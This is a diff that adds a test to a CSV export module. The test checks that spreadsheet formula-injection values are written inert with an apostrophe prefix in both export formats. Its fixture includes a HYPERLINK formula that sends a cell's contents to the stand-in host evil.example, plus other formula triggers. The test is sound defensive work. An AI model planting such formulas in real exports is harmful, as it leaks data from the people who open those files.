@@ -29,3 +29,15 @@ def test_the_rfc4180_form_is_for_programs() -> None:
 def test_a_separator_inside_a_value_is_quoted() -> None:
     text = to_csv(["a"], [("x;y",)])
     assert text.removeprefix("\ufeff").splitlines()[1] == '"x;y"'
+
+
+def test_a_cell_a_spreadsheet_would_run_is_written_inert_in_both_forms() -> None:
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Dr")', "+33612345678", "@SUM(A1)", "-2+3", "\t=1", "\r=1"]
+    harmless = [-1.55, "-1,5", "Dr Martin"]
+    for form in ("csv-fr", "csv-rfc4180"):
+        text = to_csv(["value"] * 9, [(*hostile, *harmless)], form)  # type: ignore[arg-type]
+        [row] = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";" if form == "csv-fr" else ","))[
+            1:
+        ]
+        assert all(cell.startswith("'") for cell in row[:6]), row
+        assert row[6] in ("-1,55", "-1.55") and row[7] == "-1,5" and row[8] == "Dr Martin"  # numbers stay numbers
